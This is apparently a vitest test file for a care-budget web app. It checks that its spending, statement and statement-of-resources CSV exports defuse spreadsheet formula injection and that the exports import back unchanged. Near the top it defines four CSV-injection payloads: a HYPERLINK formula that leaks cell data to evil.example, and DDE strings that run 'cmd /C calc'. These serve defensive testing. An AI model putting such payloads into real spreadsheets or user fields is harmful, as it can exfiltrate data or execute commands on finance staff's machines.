import { parse } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { users } from "#db/schema";
import { addStatementLines, listStatementLines } from "~/budgets/statement.server";
import { loader as statementCsvLoader } from "~/routes/budget.statement[.]csv";
import { loader as spendingCsvLoader } from "~/routes/spending[.]csv";
import { action as statementOfResourcesAction } from "~/routes/staff.statement-of-resources";
import { loader as statementOfResourcesCsvLoader } from "~/routes/staff.statement-of-resources[.]csv";
import { logSpend } from "~/spending/spends.server";
import { insertStaff } from "../factories";
import { BASE, cookieFor, get, run, statusOf } from "../factories/requests";
import { actorOf, spendingWorld, spendInput } from "./spending-fixtures";

// What a representative or a member of staff could type to run something in finance's spreadsheet.
const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click for your receipt")';
const PLUS = "+cmd|' /C calc'!A0";
const AT = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C calc'!A0";

/** A download's cells, once it is known to be one no browser or proxy keeps. */
const cellsOf = async (response: Response) => {
  expect(response.headers.get("Cache-Control")).toBe("private, no-store");
  return parse(await response.text());
};

describe("spreadsheet downloads", () => {
  it("the statement and spending CSVs write what a representative typed as text, never as a formula", async () => {
    const w = await spendingWorld();
    await w.db.update(users).set({ name: HYPERLINK }).where(eq(users.id, w.carer.user.id));
    const logged = await logSpend(w.db, spendInput(w, { actor: actorOf(w.carer.user, w.holder.id), whatFor: PLUS, newPayeeName: AT, amountPence: 1_250 }));
    expect(logged.ok).toBe(true);
    const cookie = await cookieFor(w.holderUser.email);

    const spending = await cellsOf((await run(spendingCsvLoader, get("/spending.csv", cookie))) as Response);
    expect(spending[0]).toEqual(["Date", "Paid to", "What it was for", "Support line", "How paid", "Amount", "Logged by", "Flags", "Reference"]);
    expect(spending[1].slice(0, 7)).toEqual([
      "02/11/2026",
      `'${AT}`,
      `'${PLUS}`,
      "Personal assistant for personal care",
      "Transfer from the budget account",
      "12.50",
      `'${HYPERLINK} (representative)`,
    ]);

    const statement = await cellsOf((await run(statementCsvLoader, get("/budget/statement.csv?from=2026-11-01", cookie))) as Response);
    expect(statement[1].slice(2, 7)).toEqual(["Spending", `'${PLUS} (${AT})`, `'${AT}`, "", "12.50"]);
  });

  it("the statement of resources export writes text cells as text, and imports back as it was", async () => {
    const w = await spendingWorld();
    const manager = await insertStaff(w.commissioner.id, "coordinator");
    await addStatementLines(w.db, {
      actor: { userId: manager.id, commissionerId: w.commissioner.id },
      commissionerId: w.commissioner.id,
      lines: [
        {
          cohort: "chc",
          band: MINUS,
          service: HYPERLINK,
          provider: AT,
          purpose: "\tTabbed",
          costingMethod: "local-cost",
          unit: "hour",
          unitsPerYear: 52,
          costPerUnitPence: 1_450,
          includedInPersonalBudgets: true,
          availableFrom: null,
        },
      ],
    });
    const cookie = await cookieFor(manager.email);
    const response = (await run(statementOfResourcesCsvLoader, get("/staff/statement-of-resources.csv", cookie))) as Response;
    expect(response.headers.get("Cache-Control")).toBe("private, no-store");
    const csv = await response.text();
    const [, row] = parse(csv);
    expect(row).toEqual(["chc", `'${MINUS}`, `'${HYPERLINK}`, `'${AT}`, "'\tTabbed", "local-cost", "hour", "52", "14.50", "yes", ""]);

    // Downloaded, edited and imported again, into another commissioner: the same words, not the apostrophes.
    const other = await spendingWorld();
    const otherManager = await insertStaff(other.commissioner.id, "coordinator");
    const form = new FormData();
    form.append("intent", "import");
    form.append("file", new File([csv], "statement-of-resources.csv", { type: "text/csv" }));
    const imported = await run(
      statementOfResourcesAction,
      new Request(`${BASE}/staff/statement-of-resources`, { method: "POST", body: form, headers: { Cookie: await cookieFor(otherManager.email) } }),
    );
    expect(statusOf(imported)).toBe(302);
    expect(await listStatementLines(w.db, { commissionerId: other.commissioner.id })).toMatchObject([
      { band: MINUS, service: HYPERLINK, provider: AT, unit: "hour", costPerUnitPence: 1_450 },
    ]);
  });
});
